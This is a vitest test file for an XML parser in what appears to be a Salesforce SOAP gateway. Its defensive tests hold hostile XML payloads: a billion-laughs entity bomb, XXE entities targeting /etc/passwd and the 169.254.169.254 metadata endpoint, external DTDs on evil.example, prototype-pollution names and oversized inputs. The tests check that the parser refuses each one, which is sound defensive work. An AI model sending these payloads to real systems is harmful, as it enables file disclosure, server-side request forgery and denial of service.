import { readFileSync } from 'node:fs';
import { describe, it, expect } from 'vitest';
import { NS_OUTBOUND, NS_SOAP11, NS_SOBJECT, NS_XML, NS_XSI } from '../../../src/constants.js';
import type { ErrorCode } from '../../../src/errors.js';
import { DEFAULT_XML_LIMITS, parseXml } from '../../../src/soap/parser.js';
import type { XmlElement, XmlLimits } from '../../../src/soap/types.js';
import { codeOf } from '../../helpers/gateway-error.js';

const fixture = (name: string): Buffer => readFileSync(new URL(`../../fixtures/salesforce/${name}`, import.meta.url));

const parse = (xml: string | Buffer, limits: XmlLimits = DEFAULT_XML_LIMITS): XmlElement =>
  parseXml(typeof xml === 'string' ? Buffer.from(xml, 'utf8') : xml, limits);

/** Rejects `xml` with `code`, in well under a second (the parse timed, not the test's own UTF-8 encoding). */
function rejects(xml: string | Buffer, code: ErrorCode, limits: XmlLimits = DEFAULT_XML_LIMITS): void {
  const body = typeof xml === 'string' ? Buffer.from(xml, 'utf8') : xml;
  const started = performance.now();
  expect(codeOf(() => parse(body, limits))).toBe(code);
  expect(performance.now() - started).toBeLessThan(500);
}

function child(element: XmlElement, ...path: number[]): XmlElement {
  let current = element;
  for (const index of path) {
    const next = current.children[index];
    if (next === undefined) throw new Error(`no child ${index} under ${current.local}`);
    current = next;
  }
  return current;
}

describe('parseXml reads well-formed documents', () => {
  it('builds a namespace-resolved tree of a Salesforce notifications envelope', () => {
    const root = parse(fixture('contact-1.xml'));
    expect([root.ns, root.local, root.prefix]).toEqual([NS_SOAP11, 'Envelope', 'soapenv']);
    const notifications = child(root, 0, 0);
    expect([notifications.ns, notifications.local, notifications.prefix]).toEqual([NS_OUTBOUND, 'notifications', '']);
    const sessionId = child(notifications, 2);
    expect(sessionId.attributes).toEqual([{ ns: NS_XSI, local: 'nil', prefix: 'xsi', value: 'true' }]);
    const sObject = child(notifications, 5, 1);
    expect(sObject.namespaces.get('sf')).toBe(NS_SOBJECT);
    expect(sObject.namespaces.get('')).toBe(NS_OUTBOUND);
    expect(sObject.attributes).toEqual([{ ns: NS_XSI, local: 'type', prefix: 'xsi', value: 'sf:Contact' }]);
    const lastName = child(sObject, 5);
    expect([lastName.ns, lastName.local, lastName.text]).toEqual([NS_SOBJECT, 'LastName', "O'Brien"]);
  });

  it('keeps namespace declarations out of attributes and scopes them to their element', () => {
    const root = parse('<a xmlns="urn:a" xmlns:p="urn:p"><p:b xmlns="urn:c"><c/></p:b><d xmlns=""/></a>');
    expect(root.attributes).toEqual([]);
    expect(child(root, 0).ns).toBe('urn:p');
    expect(child(root, 0, 0).ns).toBe('urn:c');
    expect(child(root, 1).ns).toBe('');
    expect(child(root, 1).namespaces.has('')).toBe(false);
    expect(root.namespaces.get('p')).toBe('urn:p');
  });

  it('predefines the xml prefix and puts unprefixed attributes in no namespace', () => {
    const root = parse('<a xmlns="urn:a" xmlns:p="urn:p" xml:lang="en" x="1" p:y="2"/>');
    expect(root.attributes).toEqual([
      { ns: NS_XML, local: 'lang', prefix: 'xml', value: 'en' },
      { ns: '', local: 'x', prefix: '', value: '1' },
      { ns: 'urn:p', local: 'y', prefix: 'p', value: '2' },
    ]);
  });

  it('decodes the five predefined entities and numeric references exactly once', () => {
    const root = parse('<a v="&amp;lt; &#38;#65; &quot;&apos;">&lt;&gt;&amp;&quot;&apos; &#65;&#x42;&#x1F600; &amp;amp; &#38;#x41;</a>');
    expect(root.text).toBe('<>&"\' AB\u{1F600} &amp; &#x41;');
    expect(root.attributes[0]?.value).toBe('&lt; &#65; "\'');
  });

  it('keeps CDATA literal, with no decoding inside it', () => {
    const root = parse('<a>x<![CDATA[&amp; <b> &#65;]]>y<![CDATA[]]></a>');
    expect(root.text).toBe('x&amp; <b> &#65;y');
    expect(root.children).toEqual([]);
  });

  it('never coerces values: leading zeros, booleans, numbers and whitespace stay as sent', () => {
    const root = parse('<a z="007"><b>007</b><c>true</c><d>  1e3 \n</d><e>0x10</e><f></f></a>');
    expect(root.children.map((c) => c.text)).toEqual(['007', 'true', '  1e3 \n', '0x10', '']);
    expect(root.attributes[0]?.value).toBe('007');
  });

  it('normalises literal line ends to LF while &#13; stays a CR', () => {
    const root = parse(Buffer.from('<a>1\r\n2\r3&#13;4&#13;&#10;<![CDATA[5\r\n6]]></a>'));
    expect(root.text).toBe('1\n2\n3\r4\r\n5\n6');
  });

  it('normalises literal whitespace in attribute values to spaces, keeping referenced whitespace', () => {
    const root = parse(Buffer.from('<a v="1\t2\n3\r\n4&#9;5&#10;6&#13;"/>'));
    expect(root.attributes[0]?.value).toBe('1 2 3 4\t5\n6\r');
  });

  it('accepts a UTF-8 byte order mark and a UTF-8 declaration in either case', () => {
    const bom = Buffer.from([0xef, 0xbb, 0xbf]);
    expect(parse(Buffer.concat([bom, Buffer.from('<?xml version="1.0" encoding="UTF-8"?><a/>')])).local).toBe('a');
    expect(parse("<?xml version='1.0' encoding='utf-8' standalone='yes' ?>\n<a/>").local).toBe('a');
    expect(parse('<?xml version="1.0"?><a/>').local).toBe('a');
  });

  it('reads non-ASCII text and names, including characters outside the BMP', () => {
    const root = parse('<données x="é">Montréal – 東京 \u{1F600}<𐀀/></données>');
    expect([root.local, root.text, root.attributes[0]?.value, child(root, 0).local]).toEqual(['données', 'Montréal – 東京 \u{1F600}', 'é', '𐀀']);
  });

  it('drops comments and joins the text around them', () => {
    const root = parse('<!-- before --><a>x<!-- <b>&foo; -->y</a><!-- after -->');
    expect(root.text).toBe('xy');
    expect(root.children).toEqual([]);
  });

  it('keeps whitespace between elements as text for the validator to ignore', () => {
    const root = parse('<a>\n  <b/>\n</a>');
    expect(root.text).toBe('\n  \n');
  });

  it('accepts the tightest legal forms: empty CDATA, empty comment, spaces around =', () => {
    expect(parse('<a\n  x = "1"\t/>').attributes[0]?.value).toBe('1');
    expect(parse('<a><!----><![CDATA[]]></a >').text).toBe('');
  });
});

describe('parseXml never lets element or attribute names reach an object prototype', () => {
  // Attack: a name such as __proto__ used as a plain-object key can replace the prototype of a
  // parsed node or pollute Object.prototype. Defence: names are stored as strings in arrays and
  // Maps, and fast-xml-parser's keys carry a mark no XML name can start with.
  it('parses __proto__, constructor and prototype elements and attributes as ordinary names', () => {
    const root = parse(
      '<__proto__ xmlns:constructor="urn:c" __proto__="1" constructor="2" prototype="3" constructor:toString="4">'
      + '<constructor polluted="yes"/><prototype/><constructor:__proto__/><hasOwnProperty/><toString/></__proto__>',
    );
    expect(root.local).toBe('__proto__');
    expect(root.attributes.map((a) => [a.local, a.value])).toEqual([['__proto__', '1'], ['constructor', '2'], ['prototype', '3'], ['toString', '4']]);
    expect(root.children.map((c) => c.local)).toEqual(['constructor', 'prototype', '__proto__', 'hasOwnProperty', 'toString']);
    expect(Object.getPrototypeOf(root)).toBe(Object.prototype);
    expect(({} as Record<string, unknown>)['polluted']).toBeUndefined();
    expect(Object.prototype.hasOwnProperty.call(Object.prototype, 'polluted')).toBe(false);
    expect(typeof Object.prototype.toString).toBe('function');
  });
});

describe('parseXml refuses DOCTYPE, so entities cannot exist', () => {
  // Attack: entity expansion (billion laughs), external entities reading files or making requests
  // (XXE), external DTDs and parameter entities. Defence: any DOCTYPE is refused before parsing,
  // and without one no entity but the five predefined ones can be referenced.
  it('refuses billion laughs', () => {
    const lol = '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
      + Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i === 0 ? '' : i};`.repeat(10)}">`).join('')
      + ']><lolz>&lol9;</lolz>';
    rejects(lol, 'GW_ERR_XML_DOCTYPE');
  });

  it('refuses external entities to file: and http: URLs', () => {
    rejects('<!DOCTYPE a [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><a>&xxe;</a>', 'GW_ERR_XML_DOCTYPE');
    rejects('<!DOCTYPE a [<!ENTITY xxe SYSTEM "http://169.254.169.254/latest/meta-data/">]><a>&xxe;</a>', 'GW_ERR_XML_DOCTYPE');
  });

  it('refuses an external DTD and parameter entities', () => {
    rejects('<?xml version="1.0"?>\n<!DOCTYPE a SYSTEM "http://evil.example/a.dtd"><a/>', 'GW_ERR_XML_DOCTYPE');
    rejects('<!DOCTYPE a [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]><a/>', 'GW_ERR_XML_DOCTYPE');
  });

  it('refuses a DOCTYPE anywhere, not only before the root', () => {
    rejects('<a><!DOCTYPE a></a>', 'GW_ERR_XML_DOCTYPE');
    rejects('<a/><!DOCTYPE a>', 'GW_ERR_XML_DOCTYPE');
  });

  it('treats a DOCTYPE inside CDATA or a comment as data', () => {
    expect(parse('<a><![CDATA[<!DOCTYPE a [<!ENTITY x "y">]>]]><!-- <!DOCTYPE b> --></a>').text).toBe('<!DOCTYPE a [<!ENTITY x "y">]>');
  });

  it('refuses references to undeclared entities in text and attributes', () => {
    rejects('<a>&foo;</a>', 'GW_ERR_XML_MALFORMED');
    rejects('<a x="&xxe;"/>', 'GW_ERR_XML_MALFORMED');
    rejects('<a>&nbsp;</a>', 'GW_ERR_XML_MALFORMED');
  });
});

describe('parseXml refuses processing instructions', () => {
  it('refuses a processing instruction before, inside or after the root', () => {
    rejects('<?xml-stylesheet href="x.xsl"?><a/>', 'GW_ERR_XML_PI');
    rejects('<a><?php echo 1; ?></a>', 'GW_ERR_XML_PI');
    rejects('<a/><?pi?>', 'GW_ERR_XML_PI');
  });

  it('refuses an XInclude-style processing instruction', () => {
    rejects('<a><?xinclude href="file:///etc/passwd"?></a>', 'GW_ERR_XML_PI');
  });

  it('refuses an XML declaration that does not open the document', () => {
    rejects(' <?xml version="1.0"?><a/>', 'GW_ERR_XML_PI');
    rejects('<a/><?xml version="1.0"?>', 'GW_ERR_XML_PI');
    rejects('<?XML version="1.0"?><a/>', 'GW_ERR_XML_PI');
  });

  it('treats a processing instruction inside CDATA as data', () => {
    expect(parse('<a><![CDATA[<?pi?>]]></a>').text).toBe('<?pi?>');
  });

  it('refuses a malformed XML declaration', () => {
    rejects('<?xml version="1.1"?><a/>', 'GW_ERR_XML_MALFORMED');
    rejects('<?xml encoding="UTF-8"?><a/>', 'GW_ERR_XML_MALFORMED');
    rejects('<?xml version="1.0"', 'GW_ERR_XML_MALFORMED');
  });
});

describe('parseXml accepts UTF-8 only', () => {
  it('refuses invalid UTF-8: a bad continuation, an overlong form, an encoded surrogate', () => {
    rejects(Buffer.from([0x3c, 0x61, 0x3e, 0xc3, 0x28, 0x3c, 0x2f, 0x61, 0x3e]), 'GW_ERR_XML_ENCODING');
    rejects(Buffer.concat([Buffer.from('<a>'), Buffer.from([0xc0, 0xbc]), Buffer.from('</a>')]), 'GW_ERR_XML_ENCODING');
    rejects(Buffer.concat([Buffer.from('<a>'), Buffer.from([0xed, 0xa0, 0x80]), Buffer.from('</a>')]), 'GW_ERR_XML_ENCODING');
    rejects(Buffer.concat([Buffer.from('<a>'), Buffer.from([0xff]), Buffer.from('</a>')]), 'GW_ERR_XML_ENCODING');
  });

  it('refuses UTF-16 with a byte order mark, either endianness', () => {
    const le = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('<a/>', 'utf16le')]);
    const be = Buffer.from(le.subarray(0).swap16());
    rejects(le, 'GW_ERR_XML_ENCODING');
    rejects(be, 'GW_ERR_XML_ENCODING');
  });

  it('refuses UTF-16 without a byte order mark and UTF-32', () => {
    rejects(Buffer.from('<?xml version="1.0" encoding="UTF-16"?><a/>', 'utf16le'), 'GW_ERR_XML_ENCODING');
    rejects(Buffer.from([0x00, 0x00, 0xfe, 0xff, 0, 0, 0, 0x3c, 0, 0, 0, 0x61, 0, 0, 0, 0x2f, 0, 0, 0, 0x3e]), 'GW_ERR_XML_ENCODING');
  });

  it('refuses a declared encoding other than UTF-8', () => {
    rejects('<?xml version="1.0" encoding="ISO-8859-1"?><a/>', 'GW_ERR_XML_ENCODING');
    rejects('<?xml version="1.0" encoding="UTF-16"?><a/>', 'GW_ERR_XML_ENCODING');
    rejects('<?xml version="1.0" encoding="utf8"?><a/>', 'GW_ERR_XML_ENCODING');
    rejects('<?xml version="1.1" encoding="windows-1252"?><a/>', 'GW_ERR_XML_ENCODING');
  });
});

describe('parseXml enforces structural limits in linear time', () => {
  // Attack: resource exhaustion through deep nesting, huge element or attribute counts, huge
  // names or text. Defence: the pre-scan counts while it reads and stops at the first excess.
  it('refuses 10,000-deep nesting', () => {
    rejects(`${'<a>'.repeat(10_000)}${'</a>'.repeat(10_000)}`, 'GW_ERR_XML_LIMIT');
  });

  it('accepts maxDepth levels and refuses one more', () => {
    const nest = (depth: number) => `${'<a>'.repeat(depth)}${'</a>'.repeat(depth)}`;
    expect(parse(nest(16)).local).toBe('a');
    rejects(nest(17), 'GW_ERR_XML_LIMIT');
  });

  it('refuses 100,000 elements', () => {
    rejects(`<r>${'<a/>'.repeat(99_999)}</r>`, 'GW_ERR_XML_LIMIT');
  });

  it('accepts maxElements elements and refuses one more', () => {
    const limits = { ...DEFAULT_XML_LIMITS, maxElements: 10 };
    expect(parse(`<r>${'<a/>'.repeat(9)}</r>`, limits).children).toHaveLength(9);
    rejects(`<r>${'<a/>'.repeat(10)}</r>`, 'GW_ERR_XML_LIMIT', limits);
  });

  it('refuses 5,000 attributes on one element', () => {
    rejects(`<a ${Array.from({ length: 5_000 }, (_, i) => `a${i}="1"`).join(' ')}/>`, 'GW_ERR_XML_LIMIT');
  });

  it('accepts maxAttributesPerElement attributes and refuses one more', () => {
    const attrs = (n: number) => Array.from({ length: n }, (_, i) => `a${i}="1"`).join(' ');
    expect(parse(`<a ${attrs(32)}/>`).attributes).toHaveLength(32);
    rejects(`<a ${attrs(33)}/>`, 'GW_ERR_XML_LIMIT');
  });

  it('refuses more attributes in the whole document than maxElements', () => {
    const limits = { ...DEFAULT_XML_LIMITS, maxElements: 10 };
    expect(parse(`<r>${'<a x="1" y="2"/>'.repeat(5)}</r>`, limits).children).toHaveLength(5);
    rejects(`<r>${'<a x="1" y="2"/>'.repeat(6)}</r>`, 'GW_ERR_XML_LIMIT', limits);
  });

  it('refuses a 4 MB text node, as text and as CDATA', () => {
    rejects(`<a>${'x'.repeat(4 << 20)}</a>`, 'GW_ERR_XML_LIMIT');
    rejects(`<a><![CDATA[${'x'.repeat(4 << 20)}]]></a>`, 'GW_ERR_XML_LIMIT');
  });

  it('limits the character data of one element in total, across text and CDATA sections', () => {
    const limits = { ...DEFAULT_XML_LIMITS, maxTextLength: 10 };
    expect(parse('<a>12345<![CDATA[67890]]><b>1234567890</b></a>', limits).text).toBe('1234567890');
    rejects('<a>12345<![CDATA[67890]]>1</a>', 'GW_ERR_XML_LIMIT', limits);
    rejects('<a>123456<b/>78901</a>', 'GW_ERR_XML_LIMIT', limits);
  });

  it('refuses a 4 MB attribute value and a 4 MB comment', () => {
    rejects(`<a x="${'x'.repeat(4 << 20)}"/>`, 'GW_ERR_XML_LIMIT');
    rejects(`<a><!--${'x'.repeat(4 << 20)}--></a>`, 'GW_ERR_XML_LIMIT');
  });

  it('refuses a 100 KB element or attribute name', () => {
    rejects(`<${'a'.repeat(100_000)}/>`, 'GW_ERR_XML_LIMIT');
    rejects(`<a ${'b'.repeat(100_000)}="1"/>`, 'GW_ERR_XML_LIMIT');
    expect(parse(`<${'a'.repeat(256)}/>`).local).toHaveLength(256);
  });

  it('refuses a flood of 1 million character references', () => {
    rejects(`<a>${'&#65;'.repeat(1_000_000)}</a>`, 'GW_ERR_XML_LIMIT');
    rejects(`<a x="${'&#x41;'.repeat(1_000_000)}"/>`, 'GW_ERR_XML_LIMIT');
  });

  it('decodes 1 million character references in well under a second when the limits allow them', () => {
    const limits = { ...DEFAULT_XML_LIMITS, maxTextLength: 1 << 21 };
    const body = Buffer.from(`<a>${'&#65;&amp;'.repeat(500_000)}</a>`);
    const started = performance.now();
    const root = parse(body, limits);
    expect(performance.now() - started).toBeLessThan(1_000);
    expect(root.text).toBe('A&'.repeat(500_000));
  });

  it('parses 5 MB of text spread over fields within the limits in well under a second', () => {
    const body = Buffer.from(`<r>${`<f>${'x'.repeat(250_000)}</f>`.repeat(20)}</r>`);
    const started = performance.now();
    expect(parse(body).children).toHaveLength(20);
    expect(performance.now() - started).toBeLessThan(1_000);
  });

  it('refuses limits it cannot honour', () => {
    expect(() => parse('<a/>', { ...DEFAULT_XML_LIMITS, maxDepth: 5_000 })).toThrow(RangeError);
    expect(() => parse('<a/>', { ...DEFAULT_XML_LIMITS, maxElements: 0 })).toThrow(RangeError);
  });
});

describe('parseXml refuses documents that are not well-formed', () => {
  const cases: readonly (readonly [string, string])[] = [
    ['an empty body', ''],
    ['whitespace only', ' \n'],
    ['garbage', 'hello'],
    ['JSON', '{"a":1}'],
    ['a mismatched end tag', '<a><b></a></b>'],
    ['an unclosed element', '<a><b></b>'],
    ['an end tag without a start tag', '</a>'],
    ['an unclosed start tag', '<a x="1"'],
    ['two root elements', '<a/><b/>'],
    ['text before the root', 'x<a/>'],
    ['text after the root', '<a/>x'],
    ['CDATA outside the root', '<![CDATA[x]]><a/>'],
    ['an undeclared element prefix', '<p:a/>'],
    ['an undeclared attribute prefix', '<a p:x="1"/>'],
    ['a duplicate attribute', '<a x="1" x="2"/>'],
    ['a duplicate attribute after namespace resolution', '<a xmlns:p="urn:x" xmlns:q="urn:x" p:x="1" q:x="2"/>'],
    ['a duplicate namespace declaration', '<a xmlns:p="urn:x" xmlns:p="urn:y"/>'],
    ["'<' in an attribute value", '<a x="<b>"/>'],
    ['an unquoted attribute value', '<a x=1/>'],
    ['an attribute without a value', '<a x/>'],
    ['attributes not separated by whitespace', '<a x="1"y="2"/>'],
    ['an unknown entity reference', '<a>&foo;</a>'],
    ['a bare ampersand', '<a>R&D</a>'],
    ['a reference without a semicolon', '<a>&#65</a>'],
    ['an empty numeric reference', '<a>&#;</a>'],
    ['an empty hexadecimal reference', '<a>&#x;</a>'],
    ['a non-digit in a numeric reference', '<a>&#12a;</a>'],
    ['an upper-case X in a hexadecimal reference', '<a>&#X41;</a>'],
    ['a reference to NUL', '<a>&#0;</a>'],
    ['a reference to a C0 control', '<a>&#x1;</a>'],
    ['a reference to a surrogate', '<a>&#xD800;</a>'],
    ['a reference to U+FFFE', '<a>&#xFFFE;</a>'],
    ['a reference beyond U+10FFFF', '<a>&#x110000;</a>'],
    ['a huge numeric reference', `<a>&#${'9'.repeat(1_000)};</a>`],
    ['a literal C0 control character', '<a>\u0001</a>'],
    ['a literal U+FFFF', '<a>\uffff</a>'],
    [']]> in text', '<a>]]></a>'],
    ['-- inside a comment', '<a><!-- a -- b --></a>'],
    ['a comment ending in --->', '<a><!-- a ---></a>'],
    ['an unclosed comment', '<a><!-- </a>'],
    ['an unclosed CDATA section', '<a><![CDATA[x</a>'],
    ['an unknown markup declaration', '<a><!ENTITY x "y"></a>'],
    ['a space after <', '< a/>'],
    ['a name starting with a digit', '<1a/>'],
    ['a name with two colons', '<a:b:c xmlns:a="urn:a"/>'],
    ['a name starting with a colon', '<:a/>'],
    ['a name ending with a colon', '<a: />'],
    ['an undeclared prefix by xmlns:p=""', '<a xmlns:p=""/>'],
    ['the xmlns prefix declared', '<a xmlns:xmlns="urn:x"/>'],
    ['the xml prefix bound elsewhere', '<a xmlns:xml="urn:x"/>'],
    ['another prefix bound to the xml namespace', '<a xmlns:p="http://www.w3.org/XML/1998/namespace"/>'],
    ['the xmlns namespace as default', '<a xmlns="http://www.w3.org/2000/xmlns/"/>'],
    ['an element with the xmlns prefix', '<xmlns:a/>'],
    ['U+FEFF inside a name, which fast-xml-parser would split', '<a\ufeffb/>'],
    ['U+1680 inside a name, which fast-xml-parser would split', '<a\u1680b/>'],
  ];
  for (const [name, xml] of cases) {
    it(`refuses ${name}`, () => rejects(xml, 'GW_ERR_XML_MALFORMED'));
  }

  it('accepts what looks like markup inside CDATA', () => {
    expect(parse('<a><![CDATA[</a><b x=">"/>&foo; ]] >]]></a>').text).toBe('</a><b x=">"/>&foo; ]] >');
  });
});
